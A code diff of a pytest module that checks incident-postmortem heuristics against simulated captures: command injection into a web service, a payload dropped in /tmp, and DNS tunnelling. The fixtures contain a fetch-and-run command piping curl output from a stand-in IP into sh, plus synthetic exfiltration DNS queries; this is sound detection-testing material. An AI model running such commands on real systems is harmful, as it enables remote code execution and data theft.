@@ -1,5 +1,6 @@
-"""The postmortem heuristics on an incident unlike the bundled one: command injection into a web
-service, a payload dropped in /tmp, a policy drop and a Falco alert (no interactive shell)."""
+"""The postmortem heuristics on incidents unlike the bundled one: command injection into a web
+service, a payload dropped in /tmp, a policy drop and a Falco alert (no interactive shell); the same
+without process events; DNS tunnelling seen by Hubble alone."""
 
 from __future__ import annotations
 
@@ -53,9 +54,7 @@ def _flow(sport: int, daddr: str, dport: int, verdict: str, t: str) -> str:
     return json.dumps({"flow": flow, "node_name": NODE, "time": t})
 
 
-@pytest.fixture(scope="module")
-def case(tmp_path_factory):
-    tmp = tmp_path_factory.mktemp("rce")
+def _lines() -> list[str]:
     server = _proc(10, 1, "/usr/local/bin/python3", "app.py", "2026-03-01T08:00:00Z")  # started before
     parent_of = {k: server[k] for k in ("exec_id", "pid", "binary", "arguments", "start_time", "flags")}
     sh = _proc(20, 10, "/bin/sh", "-c 'cd /tmp && curl -s http://203.0.113.9/x | sh'", "2026-03-01T10:00:00Z")
@@ -80,10 +79,20 @@ def case(tmp_path_factory):
                                       "proc.exepath": "/tmp/.x/kworker", "k8s.pod.name": POD,
                                       "k8s.ns.name": "shop"}}),
     ]
+    return lines
+
+
+def _case(tmp, lines: list[str]) -> kn.Case:
     (tmp / "capture.json").write_text("\n".join(lines) + "\n")
     c = kn.open_case(tmp / "case.duckdb")
     report = c.load(tmp / "capture.json", progress=False)
     assert report.total("quarantined") == 0
+    return c
+
+
+@pytest.fixture(scope="module")
+def case(tmp_path_factory):
+    c = _case(tmp_path_factory.mktemp("rce"), _lines())
     yield c
     c.close()
 
@@ -106,3 +115,39 @@ def test_findings_name_the_pod_the_payload_and_its_flows(case):
     assert [(r["dst_port"], r["verdict"]) for r in f["dropped_flows"]] == [(3333, "DROPPED")]
     assert [a["rule"] for a in f["alerts"]] == ["Drop and execute new binary in container"]
     assert f["notes"] == []
+    assert f["entry"]["parent"]["binary"] == "/usr/local/bin/python3"  # the service it came through
+    assert [(c["binary"], c["daddr"], c["dport"]) for c in f["connections"]] == [
+        ("/usr/bin/curl", "203.0.113.9", 80), ("/tmp/.x/kworker", "198.51.100.7", 3333)]
+
+
+def test_without_process_events_the_alerts_and_drops_name_the_pod(tmp_path):
+    c = _case(tmp_path, [line for line in _lines() if '"process_' not in line[:20]])
+    f = H.derive_findings(c)
+    assert (f["attacker_pod"], f["node"], f["flag_text"]) == (POD, NODE, H.NOT_DETERMINABLE)
+    assert f["basis"] == "pod pointed at by Falco alerts, dropped requests"
+    assert [a["rule"] for a in f["alerts"]] == ["Drop and execute new binary in container"]
+    assert [r["dst_port"] for r in f["dropped_flows"]] == [3333]
+    c.close()
+
+
+def test_dns_tunnelling_points_at_its_pod(tmp_path):
+    def dns(pod: str, name: str, i: int) -> str:
+        t = f"2026-03-01T10:00:{i % 60:02d}.{i:06d}Z"
+        flow = {"time": t, "verdict": "FORWARDED", "Type": "L7", "node_name": NODE, "is_reply": False,
+                "IP": {"source": "10.0.2.8", "destination": "10.0.0.10", "ipVersion": "IPv4"},
+                "l4": {"UDP": {"source_port": 50000 + i, "destination_port": 53}},
+                "source": {"namespace": "finance", "pod_name": pod, "labels": ["k8s:app=x"]},
+                "destination": {"namespace": "kube-system", "pod_name": "coredns-5d78c9869d-abcde"},
+                "l7": {"type": "REQUEST", "dns": {"query": name, "qtypes": ["TXT"]}},
+                "traffic_direction": "EGRESS"}
+        return json.dumps({"flow": flow, "node_name": f"prod/{NODE}", "time": t})
+
+    lines = [dns("reporting-7f8d9c6b5-zz9xq", f"{i:032x}.x.exfil.example.net.", i) for i in range(12)]
+    # a busy but ordinary pod: many lookups of a few service names
+    lines += [dns("web-5f6d7c8b9-abcde", "api.finance.svc.cluster.local.", 100 + i) for i in range(40)]
+    c = _case(tmp_path, lines)
+    f = H.derive_findings(c)
+    assert (f["attacker_pod"], f["node"]) == ("reporting-7f8d9c6b5-zz9xq", NODE)
+    assert "12 long DNS names under example.net" in f["notes"][0]
+    assert len(f["attack_flows"]) == 12
+    c.close()
